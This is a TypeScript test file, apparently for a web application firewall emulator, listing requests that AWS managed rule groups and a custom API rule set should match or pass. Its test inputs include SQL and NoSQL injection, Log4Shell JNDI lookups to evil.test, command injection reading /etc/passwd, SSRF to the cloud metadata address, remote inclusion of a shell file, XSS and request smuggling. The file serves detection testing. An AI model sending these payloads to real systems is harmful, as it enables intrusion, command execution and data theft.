import { ask, cases, get, having, post } from '../cases.ts';

const group = (Name: string, more = {}) => ({ VendorName: 'AWS', Name, ...more });
const common = 'AWSManagedRulesCommonRuleSet';
const bad = 'AWSManagedRulesKnownBadInputsRuleSet';
const sqli = 'AWSManagedRulesSQLiRuleSet';
const agent = ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64)'];
const browse = (target: string, body = '') =>
  ask({ method: body === '' ? 'GET' : 'POST', target, headers: agent, body });
const count = { Count: {} };

export default cases(
  {
    settings: group(sqli),
    matches: [
      get('/?id=1%27%20or%201=1--'),
      get("/pets/1'%20union%20select%20password%20from%20users--"),
      post('{"id":"1\' or 1=1--"}'),
      post('id=1%27+or+1%3D1--'),
      having('Cookie', "a=b; id=1' or 1=1--"),
      having('X-Id', "1' union select password from users--"),
    ],
    passes: [
      get('/?name=O%27Brien'),
      post('{"text":"select one or two of them; they\'re all good"}'),
      get('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
    ],
    rejects: [
      { settings: { VendorName: 'AWS' }, notes: ['shape.missing'] },
      { settings: { VendorName: 'Nobody', Name: 'Nothing' }, notes: ['shape.value'] },
      { settings: group(sqli, { Version: 'Version_9.9' }), notes: ['shape.value'] },
      {
        settings: group(sqli, { RuleActionOverrides: [{ Name: 'SQLi_PATH', ActionToUse: count }] }),
        notes: ['shape.value'],
      },
      { settings: group(sqli, { ManagedRuleGroupConfigs: [{ LoginPath: '/' }] }), notes: ['shape.value'] },
    ],
  },
  {
    settings: group(common),
    matches: [
      get('/'),
      ask({ headers: ['User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)'] }),
      browse(`/?a=${'b'.repeat(2_047)}`),
      browse(`/${'a'.repeat(1_024)}`),
      browse('/', 'a'.repeat(8_193)),
      browse('/?url=http://169.254.169.254/latest/meta-data/'),
      browse('/files/..%2f..%2f..%2fetc%2fpasswd'),
      browse('/backup.sql'),
      browse('/?file=debug.log'),
      browse('/?page=http://198.51.100.7/shell.txt?'),
      browse('/?q=%3Cscript%3Ealert(1)%3C/script%3E'),
      browse('/', '{"bio":"<img src=x onerror=alert(1)>"}'),
    ],
    passes: [
      browse('/'),
      browse(`/?a=${'b'.repeat(2_046)}`),
      browse('/', 'a'.repeat(8_192)),
      browse('/users/jane@example.com'),
      browse('/?site=example.com&file=report.pdf'),
      browse('/?next=https://example.com/a?b=c'),
      browse('/', '{"text":"5 < 6 && 7 > 3"}'),
    ],
  },
  {
    settings: group(bad),
    matches: [
      get('/.git/config'),
      get('/WEB-INF/web.xml'),
      get('/actuator/heapdump'),
      ask({ method: 'PROPFIND' }),
      get('/?x=$%7Bjndi:ldap://evil.test/a%7D'),
      having('X-Api-Version', '${jndi:${lower:l}dap://evil.test/a}'),
      having('Cookie', 'a=${jndi:ldap://evil.test/a}'),
      post('{"x":"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="}'),
      having('X-Route', 'T(java.lang.Runtime).getRuntime().exec("whoami")'),
      get('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'),
      post('{"then":"$1:__proto__:then","status":"resolved_model"}'),
    ],
    passes: [get('/'), get('/git/config'), get('/?class=a&module=b'), post('{"a":"${name}"}')],
  },
  {
    settings: group(common, {
      Version: 'Version_1.4',
      RuleActionOverrides: [{ Name: 'NoUserAgent_HEADER', ActionToUse: count }],
      ExcludedRules: [{ Name: 'SizeRestrictions_BODY' }],
    }),
    matches: [get('/?q=%3Cscript%3Ealert(1)%3C/script%3E')],
    passes: [get('/'), post('a'.repeat(9_000))],
  },
  {
    settings: group(sqli, {
      ScopeDownStatement: {
        ByteMatchStatement: {
          SearchString: 'L2E=',
          FieldToMatch: { UriPath: {} },
          TextTransformations: [{ Priority: 0, Type: 'NONE' }],
          PositionalConstraint: 'STARTS_WITH',
        },
      },
    }),
    matches: [get('/a?id=1%27%20or%201=1--')],
    passes: [get('/b?id=1%27%20or%201=1--')],
  },
  {
    settings: { VendorName: 'Portcullis', Name: 'PortcullisApiRuleSet' },
    matches: [
      post(`{"query":"{ ${'a { b { c { '.repeat(5)} id ${' } } }'.repeat(5)} }"}`),
      post(JSON.stringify({ query: '{ ...A } fragment A on T { b { ...A } }' })),
      get('/?query=%7B%20me%20%7B%20...A%20%7D%20%7D%20fragment%20A%20on%20T%20%7B%20...A%20%7D'),
      get('/?x=%7B%7B7*7%7D%7D'),
      get('/?host=127.0.0.1%3Bcat%20/etc/passwd'),
      get('/?next=//evil.test'),
      get('/.env'),
      having('User-Agent', 'Mozilla/5.0 (compatible; Nikto)'),
      having('X-Original-URL', '/admin'),
      having('Connection', 'close, X-Real-IP'),
      having('Content-Type', 'application/json; charset=ibm037'),
      post('{"user":{"$ne":null}}'),
      post('{"password":{"$gt":""}}'),
      post('0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n'),
    ],
    passes: [
      get('/'),
      get('/?next=https://example.com/a'),
      having('X-Forwarded-Host', 'example.com'),
      post('{"query":"{ me { id name } }"}'),
      post('{"query":"{ __schema { types { name } } }"}'),
      post('{"price":{"$gte":5}}'),
      post('{"text":"cats; dogs | birds & more"}'),
    ],
    rejects: [
      {
        settings: {
          VendorName: 'Portcullis',
          Name: 'PortcullisApiRuleSet',
          ManagedRuleGroupConfigs: [{ PortcullisApiRuleSet: { GraphQL: { Depth: 0 } } }],
        },
        notes: ['shape.value'],
      },
      {
        settings: { VendorName: 'Portcullis', Name: 'PortcullisApiRuleSet', Version: 'Version_2.0' },
        notes: ['shape.value'],
      },
    ],
  },
  {
    settings: {
      VendorName: 'Portcullis',
      Name: 'PortcullisApiRuleSet',
      ManagedRuleGroupConfigs: [{ PortcullisApiRuleSet: { GraphQL: { Depth: 3, Aliases: 2 } } }],
    },
    matches: [post('{"query":"{ a { b { c { d } } } }"}'), post('{"query":"{ a: x b: x c: x }"}')],
    passes: [post('{"query":"{ a { b { c } } }"}'), post('{"query":"{ a: x b: x }"}')],
  },
  {
    settings: group('AWSManagedRulesAdminProtectionRuleSet'),
    matches: [get('/phpmyadmin/')],
    passes: [get('/pets')],
  },
  {
    settings: group('AWSManagedRulesLinuxRuleSet'),
    matches: [get('/?f=/proc/version'), having('X-File', '../../../etc/passwd')],
    passes: [get('/?f=C:\\windows\\win.ini')],
  },
  {
    settings: group('AWSManagedRulesUnixRuleSet'),
    matches: [get('/?x=$(whoami)'), post('{"h":"`id`"}')],
    passes: [get('/?x=$5')],
  },
  {
    settings: group('AWSManagedRulesWindowsRuleSet'),
    matches: [get('/?x=%26cmd%20/c%20dir'), having('Cookie', 'a=Invoke-Expression $x')],
    passes: [get('/?x=cmd')],
  },
  {
    settings: group('AWSManagedRulesPHPRuleSet'),
    matches: [get('/?x=$_GET[a]'), post('{"a":"phpinfo()"}')],
    passes: [get('/?x=phpinfo')],
  },
  {
    settings: group('AWSManagedRulesWordPressRuleSet'),
    matches: [get('/xmlrpc.php'), get('/?do-reset-wordpress=1')],
    passes: [get('/xmlrpc')],
  },
);
